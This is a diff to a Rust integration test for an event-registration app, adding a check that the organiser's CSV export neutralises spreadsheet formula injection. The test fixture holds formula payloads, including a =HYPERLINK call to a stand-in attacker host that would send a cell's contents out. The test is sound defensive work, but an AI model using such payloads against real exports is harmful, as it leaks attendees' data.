@@ -436,7 +436,19 @@ async fn calendar_shows_dutch_time_across_dst(backend: Backend) {
     let uid = invitation.lines().find(|line| line.starts_with("UID:")).unwrap();
     assert!(text.contains(uid), "{uid} in the feed");
 
-    // The organiser's CSV opens in Excel: BOM, semicolons.
+    // A visitor whose name and remarks a spreadsheet would run as formulas.
+    let (status, body) = register(
+        &app,
+        slug,
+        json!({
+            "name": "=HYPERLINK(\"https://evil.example/?\"&A2,\"Klik\")", "email": "formule@deelnemer.test",
+            "organisation": "@SUM(1+1)", "remarks": "-2+3",
+        }),
+    )
+    .await;
+    assert_eq!(status, 201, "{body}");
+
+    // The organiser's CSV opens in Excel: BOM, semicolons, no formulas.
     let csv = app
         .client
         .get(format!("{}/agenda/{slug}/aanmeldingen.csv", app.address))
@@ -447,7 +459,15 @@ async fn calendar_shows_dutch_time_across_dst(backend: Backend) {
     assert_eq!(csv.status(), 200);
     let bytes = csv.bytes().await.unwrap();
     assert!(bytes.starts_with(b"\xEF\xBB\xBFNaam;E-mail;"));
-    assert!(String::from_utf8_lossy(&bytes).contains("Graag vegetarisch"));
+    let text = String::from_utf8_lossy(&bytes);
+    assert!(text.contains("Graag vegetarisch"));
+    assert!(
+        text.contains(
+            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Klik\"\")\";formule@deelnemer.test;'@SUM(1+1);"
+        ),
+        "{text}"
+    );
+    assert!(text.contains(";'-2+3;"), "{text}");
     // Participant lists are for organisers only.
     let as_member = app
         .client
